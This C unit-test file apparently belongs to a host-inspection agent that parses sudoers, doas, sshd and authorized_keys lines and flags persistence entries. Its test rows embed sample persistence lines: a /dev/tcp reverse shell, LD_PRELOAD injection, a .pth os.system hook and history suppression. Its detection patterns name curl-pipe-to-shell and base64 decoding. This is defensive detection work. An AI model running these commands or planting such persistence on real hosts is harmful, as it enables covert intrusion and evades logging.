/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Lines of sudoers, doas, sshd_config, authorized_keys; commands in files. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "agent/state/authority.h"
#include "agent/state/authorized.h"
#include "agent/state/look.h"
#include "agent/state/meaning.h"
#include "agent/state/place_table.h"
#include "agent/state/sshd_config.h"
#include "agent/state/sudoers.h"

static void
test_sudoers(void **state)
{
	static const struct {
		const char *line;
		enum sudo_line kind;
		const char *words;
		bool weak;
	} rows[] = {
		{"", SUDO_NOTHING, NULL, false},
		{"# root ALL=ALL", SUDO_NOTHING, NULL, false},
		{"root ALL=(ALL:ALL) ALL", SUDO_RULE,
		    "user root may run any command as anybody", false},
		{"%sudo ALL=(ALL:ALL) NOPASSWD: ALL", SUDO_RULE,
		    "group sudo may run any command as anybody without a "
		    "password", true},
		{"ann, bob web1, web2 = (www) NOPASSWD:SETENV: /bin/a, /bin/b",
		    SUDO_RULE, "user ann, bob may run /bin/a, /bin/b as www "
		    "on web1, web2 without a password, environment kept",
		    false},
		{"#1000 ALL=/bin/ls", SUDO_RULE,
		    "uid 1000 may run /bin/ls as root", false},
		{"ALL ALL=NOPASSWD:/bin/ls", SUDO_RULE,
		    "everybody may run /bin/ls as root without a password",
		    true},
		{"ann\tALL=\tALL", SUDO_RULE,
		    "user ann may run any command as root", false},
		{"a\\ b ALL=ALL", SUDO_RULE,
		    "user a\\ b may run any command as root", false},
		{"ann ALL=/bin/a, NOPASSWD: /bin/b", SUDO_RULE,
		    "user ann may run /bin/a, NOPASSWD: /bin/b as root "
		    "without a password", false},
		{"Defaults !authenticate", SUDO_DEFAULTS,
		    "option \"!authenticate\"", true},
		{"Defaults:ann timestamp_timeout=-1", SUDO_DEFAULTS,
		    "option \":ann timestamp_timeout=-1\"", true},
		{"Defaults env_reset", SUDO_DEFAULTS, "option \"env_reset\"",
		    false},
		{"User_Alias X = ann", SUDO_ALIAS, "User_Alias \"X = ann\"",
		    false},
		{"@includedir /etc/sudoers.d", SUDO_INCLUDE_DIR,
		    "rules are taken from /etc/sudoers.d", false},
		{"#include \"/etc/a b\"", SUDO_INCLUDE,
		    "rules are taken from /etc/a b", false},
		{"#includes nothing", SUDO_NOTHING, NULL, false},
		{"ann", SUDO_UNKNOWN, NULL, true},
		{"ann =", SUDO_UNKNOWN, NULL, true},
		{"= ALL", SUDO_UNKNOWN, NULL, true},
		{"ann ALL=(root", SUDO_UNKNOWN, NULL, true},
	};
	struct sudo_rule r;
	char words[1024];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		sudoers_parse(rows[i].line, &r);
		sudoers_words(&r, words, sizeof(words));
		if (r.kind != rows[i].kind ||
		    (sudoers_weak(&r) != NULL) != rows[i].weak ||
		    (rows[i].words != NULL &&
		    strcmp(words, rows[i].words) != 0))
			fail_msg("%s: %d, \"%s\"", rows[i].line, r.kind,
			    words);
	}
}

static void
test_doas(void **state)
{
	static const struct {
		const char *line;
		enum sudo_line kind;
		const char *words;
	} rows[] = {
		{"", SUDO_NOTHING, NULL},
		{"# permit ann", SUDO_NOTHING, NULL},
		{"deny ann", SUDO_NOTHING, NULL},
		{"permit ann", SUDO_RULE,
		    "user ann may run any command as root"},
		{"permit nopass keepenv :wheel as bob cmd /bin/ls",
		    SUDO_RULE, "group wheel may run /bin/ls as bob without a "
		    "password, environment kept"},
		{"permit setenv { A=b C } ann", SUDO_RULE,
		    "user ann may run any command as root"},
		{"permit", SUDO_UNKNOWN, NULL},
		{"allow ann", SUDO_UNKNOWN, NULL},
	};
	struct sudo_rule r;
	char words[1024];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		doas_parse(rows[i].line, &r);
		sudoers_words(&r, words, sizeof(words));
		if (r.kind != rows[i].kind || (rows[i].words != NULL &&
		    strcmp(words, rows[i].words) != 0))
			fail_msg("%s: %d, \"%s\"", rows[i].line, r.kind,
			    words);
	}
}

static void
test_sshd_lines(void **state)
{
	static const struct {
		const char *line, *key, *value;
	} rows[] = {
		{"", NULL, NULL}, {"# PermitRootLogin yes", NULL, NULL},
		{"PermitRootLogin yes", "permitrootlogin", "yes"},
		{"  permitrootlogin\t=  yes ", "permitrootlogin", "yes"},
		{"Port=2222", "port", "2222"},
		{"Match User  ann,bob", "match", "User ann,bob"},
		{"UsePAM", "usepam", ""},
		{"AuthorizedKeysFile \"a b\"", "authorizedkeysfile",
		    "\"a b\""},
	};
	char line[256], key[SSHD_WORD_MAX], *value;
	size_t i;
	bool got;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		snprintf(line, sizeof(line), "%s", rows[i].line);
		got = sshd_parse(line, key, &value);
		if (got != (rows[i].key != NULL) || (got &&
		    (strcmp(key, rows[i].key) != 0 ||
		    strcmp(value, rows[i].value) != 0)))
			fail_msg("%s", rows[i].line);
	}
}

#define KEY "AAAAC3NzaC1lZDI1NTE5AAAAIJjKHoCSmV8rq0Wg8A9UQ2GvhgE9ufIO4ktfU2vqAbcd"
#define PRINT "SHA256:SXyDzrc0BdaagQZpERe+9fJZhTNgBNGdLJzFHBazaho"

static void
test_authorized(void **state)
{
	static const struct {
		const char *line;
		int want;
		const char *options, *comment;
	} rows[] = {
		{"", ERR_NOENT, NULL, NULL},
		{"# ssh-ed25519 " KEY, ERR_NOENT, NULL, NULL},
		{"ssh-ed25519 " KEY, 0, "", ""},
		{"ssh-ed25519 " KEY " ann@host x", 0, "", "ann@host x"},
		{"  ssh-ed25519\t" KEY "\r", 0, "", ""},
		{"command=\"a b \\\" c\",no-pty ssh-ed25519 " KEY " c", 0,
		    "command=\"a b \\\" c\",no-pty", "c"},
		{"restrict ssh-ed25519-cert-v01@openssh.com " KEY, 0,
		    "restrict", ""},
		{"ssh-ed25519", ERR_SYNTAX, NULL, NULL},
		{"ssh-ed25519 !!!!", ERR_SYNTAX, NULL, NULL},
		{"ssh-ed25519 AAA", ERR_SYNTAX, NULL, NULL},
		{"ssh-ed25519 ====", ERR_SYNTAX, NULL, NULL},
		{"command=\"x ssh-ed25519 " KEY, ERR_SYNTAX, NULL, NULL},
		{"root:$6$abc:19000:0:99999:7:::", ERR_SYNTAX, NULL, NULL},
	};
	struct authorized_key k;
	char line[512];
	size_t i;
	int r;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		snprintf(line, sizeof(line), "%s", rows[i].line);
		r = authorized_parse(line, &k);
		if (r != rows[i].want || (r == 0 &&
		    (strcmp(k.options, rows[i].options) != 0 ||
		    strcmp(k.comment, rows[i].comment) != 0 ||
		    strcmp(k.print, PRINT) != 0)))
			fail_msg("%s: %d", rows[i].line, r);
	}
}

static void
test_meaning(void **state)
{
	static const struct {
		const char *kind, *path, *text, *want;
	} rows[] = {
		{"persist.service", "/etc/systemd/system/a.service",
		    "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/a \\\n"
		    " b\nUser=ann\n", "ExecStart=/bin/a b | User=ann"},
		{"persist.cron", "/etc/cron.d/a",
		    "# x\nSHELL=/bin/sh\n\n* * * * * root /bin/a\n",
		    "* * * * * root /bin/a"},
		{"persist.cron", "/etc/cron.d/a",
		    "LD_PRELOAD=/x.so\n", "LD_PRELOAD=/x.so"},
		{"persist.cron", "/etc/cron.daily/a", "#!/bin/sh\n/bin/a\n",
		    ""},
		{"persist.at", "/var/spool/cron/atjobs/a",
		    "#!/bin/sh\numask 22\nHOME=/root; export HOME\ncd / || {\n"
		    "\t echo no >&2\n\t exit 1\n}\n/bin/a\n", "/bin/a"},
		{"persist.udev", "/etc/udev/rules.d/a",
		    "# RUN+=\"x\"\nA==\"b\", PROGRAM=\"/bin/p\", RUN+=\"/bin/a "
		    "c\"\n", "RUN+=\"/bin/a c | PROGRAM=\"/bin/p"},
		{"persist.udev", "/etc/udev/rules.d/a", "RUN+=\"open\nRUN\n",
		    ""},
		{"persist.package-hook", "/etc/apt/apt.conf.d/a",
		    "// Post-Invoke\nDPkg::Post-Invoke {\"x\";};\nA \"b\";\n",
		    "DPkg::Post-Invoke {\"x\";};"},
		{"persist.module", "/etc/modprobe.d/a",
		    "blacklist b\ninstall b /bin/a\n", "install b /bin/a"},
		{"persist.module", "/etc/modules-load.d/a", "# x\nb\n", "b"},
		{"persist.python", "/usr/lib/python3/dist-packages/a.pth",
		    "/path\nimport os; os.system('a')\n",
		    "import os; os.system('a')"},
		{"persist.preload", "/etc/ld.so.preload", "/lib/a.so\n",
		    "/lib/a.so"},
		{"persist.profile", "/etc/environment",
		    "LANG=C\nLD_PRELOAD=/a.so\n", "LD_PRELOAD=/a.so"},
		{"persist.profile", "/home/ann/.bashrc",
		    "x=secret\nexport HISTFILE=/dev/null\n",
		    "switches the command history off"},
		{"persist.profile", "/etc/profile",
		    "x=1\nbash -i >& /dev/tcp/192.0.2.1/1\n",
		    "bash -i >& /dev/tcp/192.0.2.1/1"},
		{"persist.autostart", "/home/ann/.config/autostart/a.desktop",
		    "[Desktop Entry]\nName=a\nExec=/bin/a\n", "Exec=/bin/a"},
		{"persist.pam-module", "/usr/lib/security/a.so",
		    "\x7f""ELF\n| sh\n", ""},
	};
	char text[1024], out[MEANING_MAX];
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		snprintf(text, sizeof(text), "%s", rows[i].text);
		meaning_of(rows[i].kind, rows[i].path, text, out);
		if (strcmp(out, rows[i].want) != 0)
			fail_msg("%s: \"%s\"", rows[i].text, out);
	}
}

/* Never more than its bound, nor half of a quoted sign at the end. */
static void
test_meaning_is_bounded(void **state)
{
	char out[MEANING_MAX], *text = malloc(200001);
	size_t i;

	(void)state;
	for (i = 0; i < 200000; i++)
		text[i] = i % 300 == 299 ? '\n' : i % 7 == 0 ? '\xff' : 'x';
	text[200000] = '\0';
	meaning_of("persist.loader", "/etc/ld.so.conf", text, out);
	assert_true(strlen(out) > 400 && strlen(out) < MEANING_MAX);
	free(text);
}

static void
test_odd(void **state)
{
	static const struct {
		const char *text;
		bool odd;
	} rows[] = {
		{"/bin/a", false}, {"", false}, {"/tmp/a", true},
		{"ExecStart=/tmp/a", true}, {"/var/tmp/a", true},
		{"/home/tmp/a", false}, {"curl x | sh", true},
		{"{stop|reload|show}", false}, {"x |bash -c", true},
		{"base64 -d", true}, {"base64 -dw0", false},
		{"unset HISTFILE", true}, {"unset HISTFILESIZE", false},
	};
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		if ((look_odd(rows[i].text) != NULL) != rows[i].odd)
			fail_msg("%s", rows[i].text);
}

static void
test_fields_and_words(void **state)
{
	char out[8], text[64];

	(void)state;
	assert_true(look_field("a=1\tbc=2\tc=", "bc", out, sizeof(out)));
	assert_string_equal(out, "2");
	assert_false(look_field("a=1\tbc=2", "b", out, sizeof(out)));
	assert_false(look_field("a=1\tbc=2", "c", out, sizeof(out)));
	assert_false(look_field(NULL, "c", out, sizeof(out)));
	assert_true(look_field("a=123456789", "a", out, sizeof(out)));
	assert_string_equal(out, "1234567");
	strcpy(text, " \ta \t b  c\r ");
	assert_string_equal(look_squeeze(text), "a b c");
	strcpy(text, "");
	assert_string_equal(look_squeeze(text), "");
}

struct seen {
	char text[256];
};

static int
note_line(void *arg, char *line)
{
	struct seen *s = arg;

	strcat(s->text, "<");
	strcat(s->text, line);
	strcat(s->text, ">");
	return 0;
}

static void
test_lines_are_joined(void **state)
{
	struct seen s = {""};
	char one[] = "a\\\nb\nc\\\\\nd\\", two[] = "a\\\nb";

	(void)state;
	look_lines(one, true, note_line, &s);
	assert_string_equal(s.text, "<ab><c\\\\><d\\>");
	s.text[0] = '\0';
	look_lines(two, false, note_line, &s);
	assert_string_equal(s.text, "<a\\><b>");
}

static void
test_place_table(void **state)
{
	size_t i;

	(void)state;
	for (i = 0; system_places[i].path != NULL; i++)
		assert_true(system_places[i].path[0] == '/' &&
		    strncmp(system_places[i].kind, "persist.", 8) == 0);
	for (i = 0; home_places[i].path != NULL; i++)
		assert_true(home_places[i].path[0] != '/');
	assert_string_equal(place_kind("persist.service", "/x/a.timer"),
	    "persist.timer");
	assert_string_equal(place_kind("persist.service", "/x/a.timers"),
	    "persist.service");
	assert_string_equal(place_kind("persist.cron", "/x/a.timer"),
	    "persist.cron");
	assert_true(place_is_volatile(
	    "/run/systemd/transient/session-1.scope.d"));
	assert_false(place_is_volatile("/run/systemd/transient/x.service"));
}

static int
no_call(void *arg, const char *print, const char *subject)
{
	(void)print;
	(void)subject;
	(*(int *)arg)++;
	return 0;
}

static void
test_no_certificate(void **state)
{
	static const char *const rows[] = {"", "x", "-----BEGIN CERTIFICATE"
	    "-----\nAAAA\n-----END CERTIFICATE-----\n", "\x30\x82\xff\xff"};
	int calls = 0;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
		assert_int_equal(authority_each(rows[i], strlen(rows[i]),
		    no_call, &calls), 0);
	assert_int_equal(calls, 0);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_sudoers),
	    cmocka_unit_test(test_doas),
	    cmocka_unit_test(test_sshd_lines),
	    cmocka_unit_test(test_authorized),
	    cmocka_unit_test(test_meaning),
	    cmocka_unit_test(test_meaning_is_bounded),
	    cmocka_unit_test(test_odd),
	    cmocka_unit_test(test_fields_and_words),
	    cmocka_unit_test(test_lines_are_joined),
	    cmocka_unit_test(test_place_table),
	    cmocka_unit_test(test_no_certificate),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
